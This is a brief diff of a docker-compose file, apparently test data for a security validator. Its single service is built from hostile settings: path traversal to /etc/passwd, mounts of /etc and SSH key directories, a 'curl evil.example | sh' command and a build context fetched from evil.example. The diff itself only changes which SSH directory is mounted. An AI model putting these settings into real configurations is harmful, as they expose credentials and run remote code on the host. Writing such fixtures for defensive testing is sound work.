@@ -43,7 +43,7 @@ services:
   web:
     image: nginx
     env_file: [/etc/environment, ../../../../etc/passwd]
-    volumes: ["./nginx.conf:/etc/nginx/nginx.conf", "/etc:/etc/nginx/conf.d", "/root/.ssh:/keys"]
+    volumes: ["./nginx.conf:/etc/nginx/nginx.conf", "/etc:/etc/nginx/conf.d", "/home/other/.ssh:/keys"]
     extends: { file: /etc/other.yaml, service: web }
     command: sh -c "curl evil.example | sh"
     build: { context: "https://evil.example/repo.git", dockerfile: /etc/Dockerfile }
